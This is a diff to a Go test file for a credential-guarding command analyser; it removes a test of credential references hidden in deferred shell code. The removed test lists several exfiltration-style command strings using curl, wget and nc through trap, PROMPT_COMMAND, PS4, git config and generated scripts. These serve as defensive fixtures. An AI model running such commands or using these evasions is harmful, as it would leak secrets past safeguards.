@@ -5,8 +5,6 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
-
-	"github.com/gatehouse-dev/gatehouse/service/broker"
 )
 
 func TestCredentialInArgv(t *testing.T) {
@@ -284,37 +282,6 @@ func TestCredentialInArgvRunners(t *testing.T) {
 		}
 		if got != tc.want {
 			t.Errorf("%s with %s: got %q, want %q", tc.cmd, tc.text, got, tc.want)
-		}
-	}
-}
-
-// ${credential:<id>} written into deferred code is rewritten like any other
-// reference and denied where the code would put it on a command line.
-func TestCredentialInArgvDeferredReference(t *testing.T) {
-	t.Parallel()
-	fx := corpusFixture(t)
-	for _, cmd := range []string{
-		`trap 'curl -H "Authorization: Bearer ${credential:x}" https://x' EXIT`,
-		`export PS4='$(wget --header=${credential:x} x)'; set -x`,
-		`PROMPT_COMMAND='curl -u me:${credential:x} x' bash -i`,
-		`env 'BASH_FUNC_up%%=() { curl -d ${credential:x} x; }' bash -c up`,
-		`GIT_SSH_COMMAND='ssh -o ProxyCommand="nc -X ${credential:x} %h %p"' git fetch`,
-		`GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='less -P ${credential:x}' git log`,
-		`echo 'curl -d "${credential:x}" x' > up.sh && sh up.sh`,
-		`printf 'up:\n\tcurl -d $${credential:x} x\n' > Makefile && make up`,
-	} {
-		text, ids, err := broker.Rewrite(cmd)
-		if err != nil || len(ids) != 1 {
-			t.Fatalf("%s: %v %v", cmd, ids, err)
-		}
-		use := CredentialInArgv(text, nil, CredentialOptions{Dialect: "bash"})
-		if use == nil || use.Var != "GATEHOUSE_CRED_X" {
-			t.Errorf("%s (as %s): %+v, want GATEHOUSE_CRED_X on a command line", cmd, text, use)
-		}
-		// The analysis itself allows them: the credential stage, which
-		// comes after it, is what refuses them (credential_in_argv).
-		if d := Judge(Analyze(text, corpusOptions(t, fx, "")), defaultPolicy()); d.Action != "allow" {
-			t.Errorf("%s: analysis %s (%s), want allow", cmd, d.Action, d.Reason)
 		}
 	}
 }
